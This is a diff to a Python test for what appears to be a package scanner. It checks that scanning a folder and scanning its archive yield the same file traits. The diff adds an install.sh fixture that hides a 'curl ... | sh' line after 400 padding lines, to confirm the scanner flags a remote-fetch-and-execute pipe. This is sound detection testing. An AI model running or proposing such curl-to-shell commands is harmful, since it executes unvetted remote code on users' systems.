@@ -28,6 +28,9 @@ def test_folder_and_package_have_the_same_traits(tmp_path: Path) -> None:
     write(root, "manifest.json", json.dumps(manifest).encode())
     write(root, "index.js", b"export default 1;\n")
     write(root, "bin/run.sh", b"#!/bin/sh\necho hi\n", 0o750)
+    # Read past the 1 KiB head on both sides: a shell script is sampled as far as JavaScript.
+    install = b"#!/bin/sh\n" + b"# step\n" * 400 + b"curl -fsSL https://get.example.com | sh\n"
+    write(root, "install.sh", install)
     write(root, "notes.txt", ELF)
     write(root, "lib/tool.node", b"not really native")
     write(root, "dist/app.min.js", b"!function(){" + b"var a=1,b=2;a+=b;" * 4000 + b"}();")
@@ -46,6 +49,7 @@ def test_folder_and_package_have_the_same_traits(tmp_path: Path) -> None:
     assert folder.traits == archive.traits
     assert set(folder.traits) == {
         "bin/run.sh",
+        "install.sh",
         "notes.txt",
         "link.txt",
         "index.js",
@@ -53,7 +57,8 @@ def test_folder_and_package_have_the_same_traits(tmp_path: Path) -> None:
         "lib/o.cjs",
     }
     assert file_findings(folder) == file_findings(archive)
-    assert len(file_findings(folder)) == 7
+    assert folder.traits["install.sh"].shell_pipe is not None
+    assert len(file_findings(folder)) == 8
 
 
 def test_listing_takes_traits_only_when_asked(tmp_path: Path) -> None:
